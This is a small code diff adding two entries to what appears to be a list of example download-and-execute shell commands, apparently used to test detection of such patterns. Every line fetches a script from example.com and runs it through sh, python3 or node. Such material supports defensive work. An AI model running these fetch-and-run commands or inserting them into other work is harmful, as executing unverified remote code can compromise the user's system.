@@ -22,6 +22,8 @@ export const DOWNLOAD_EXAMPLES: Examples = {
       'x=$(curl -s https://example.com/i.sh); eval "$x"',
       'curl -o i.sh https://example.com/i.sh && sh i.sh',
       'curl -s https://example.com/i.py | python3 -',
+      'curl -s https://example.com/i.py | python3 -u - --version',
+      'curl -s https://example.com/i.js | node - --help',
       'wget https://example.com/i.sh; chmod +x i.sh; ./i.sh',
       'wget -P /tmp https://example.com/i.sh && sh /tmp/i.sh',
       'curl --output-dir /tmp -O https://example.com/i.sh && sh /tmp/i.sh',
